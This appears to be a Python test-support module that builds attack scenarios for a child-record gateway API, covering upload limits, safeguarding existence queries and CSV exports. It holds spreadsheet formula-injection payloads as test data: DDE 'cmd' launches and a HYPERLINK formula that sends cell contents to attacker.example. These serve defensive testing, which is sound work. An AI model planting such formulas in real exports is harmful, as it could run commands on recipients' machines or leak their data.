"""The API set-ups of issue 13's attacks, shared by their dedicated tests and the live
attack table (tests/integration/test_attack_corpus_live.py).

Each builds the real app (``create_app``) over gateways on the in-memory
transport: an upload gateway with chosen limits (item 5), a region whose
Solihull (334) asks Wolverhampton (336) whether a CAF exists (item 6), and a
region where Dudley's record with formula cells reaches CSV local formats
(item 4).
"""

from __future__ import annotations

import base64
import csv
import io
import shutil
from pathlib import Path
from typing import Any

import yaml
from fastapi.testclient import TestClient
from policy_support import DUDLEY, ROOT, WOLVERHAMPTON, pump, settings_for, submit
from policy_support import memory_gateway as policy_gateway

from gateway.api.app import create_app
from gateway.api.auth import ApiKeys
from gateway.context import Gateway
from support.gateways import config_copy, memory_gateway

Auth = dict[str, str]

# The four cells of the attack run (issue 13), each in a column both CSV formats write.
FORMULA_CELLS = {
    "STRENGTHS": "=cmd|' /C calc'!A1",
    "NEEDS": '+HYPERLINK("https://attacker.example/?leak="&A1,"Open the plan")',
    "ACTION_1_OWNER": "-2+3+cmd|' /C calc'!A0",
    "ACTION_1": "@SUM(1+1)*cmd|' /C calc'!A0",
}

KACPER = {
    "recipient": "336",
    "given_name": "Kacper",
    "family_name": "Nowak",
    "date_of_birth": "2012-07-09",
    "upn": "J336203317005",
}
"""A child Wolverhampton holds a CAF for and has shared with no one."""


def upload_client(tmp_path: Path, **limits: int) -> tuple[TestClient, Auth, Gateway]:
    """Dudley's API (with these ``limits``) and a key of Dudley's."""
    hosted = ("332", "333", "336")
    settings = settings_for(tmp_path, hosted)
    settings = settings.model_copy(update={"limits": settings.limits.model_copy(update=limits)})
    gw = memory_gateway(tmp_path, hosted, settings=settings)
    keys = ApiKeys(tmp_path / "api-keys.json")
    auth = {"Authorization": f"Bearer {keys.issue('332')}"}
    return TestClient(create_app(gw, keys)), auth, gw


def post_export(client: TestClient, auth: Auth, data: bytes) -> Any:
    """``POST /v1/messages?adapter=dudley-csv`` with ``data``; the answer."""
    return client.post("/v1/messages", params={"adapter": "dudley-csv"}, content=data, headers=auth)


def existence_region(tmp_path: Path, per_day: int = 5) -> tuple[TestClient, Auth, Gateway]:
    """Every authority on one gateway, Wolverhampton's records received; a key of
    Solihull's (the asker)."""
    config_copy(tmp_path, **({"existence_safeguarding_per_day": per_day} if per_day != 5 else {}))
    gw = policy_gateway(tmp_path)
    submit(gw, "336", "wolverhampton-json", WOLVERHAMPTON.read_bytes(), "ehm.json")
    pump(gw)
    keys = ApiKeys(tmp_path / "api-keys.json")
    auth = {"Authorization": f"Bearer {keys.issue('334', holder='Priya Shah')}"}
    return TestClient(create_app(gw, keys)), auth, gw


def ask_existence(client: TestClient, auth: Auth, approver: str, reason: str) -> Any:
    """Solihull asks about Kacper on the safeguarding basis; the answer."""
    body = dict(KACPER, safeguarding_approver=approver, safeguarding_reason=reason)
    return client.post("/v1/existence-queries", json=body, headers=auth)


def export_with_formulas() -> bytes:
    """Dudley's sample register with the four cells in row 1 (shared with 336 and 333)."""
    rows = list(csv.DictReader(io.StringIO(DUDLEY.read_bytes().decode("cp1252"))))
    rows[0].update(FORMULA_CELLS)
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode("cp1252")


def formula_region(tmp_path: Path) -> tuple[TestClient, ApiKeys]:
    """Dudley's record with formula cells received by Wolverhampton (whose case system
    takes Dudley-style CSV) and Sandwell (a YAML-only CSV format): both CSV writers of
    a local format are on the served path."""
    config = config_copy(tmp_path)
    shutil.copy(
        ROOT / "docs" / "examples" / "coventry-331" / "coventry-csv.yaml", config / "adapters"
    )
    directory = yaml.safe_load((config / "authorities.yaml").read_text(encoding="utf-8"))
    directory["authorities"]["336"]["adapter"] = "dudley-csv"
    directory["authorities"]["333"]["adapter"] = "coventry-csv"
    (config / "authorities.yaml").write_text(yaml.safe_dump(directory), encoding="utf-8")
    hosted = ("332", "333", "336")
    gw = memory_gateway(tmp_path, hosted, settings=settings_for(tmp_path, hosted))
    submit(gw, "332", "dudley-csv", export_with_formulas(), "caf-register.csv")
    pump(gw)
    keys = ApiKeys(tmp_path / "api-keys.json")
    return TestClient(create_app(gw, keys)), keys


def served_local(
    client: TestClient, keys: ApiKeys, authority: str, encoding: str
) -> tuple[dict[str, Any], str]:
    """The Assessment ``authority`` is served by ``GET /v1/inbox?format=local``, and its
    file as text."""
    auth = {"Authorization": f"Bearer {keys.issue(authority)}"}
    served = client.get("/v1/inbox", params={"format": "local"}, headers=auth)
    assert served.status_code == 200, served.text
    (item,) = [i for i in served.json() if i["message_type"] == "Assessment"]
    return item, base64.b64decode(item["content_base64"]).decode(encoding)
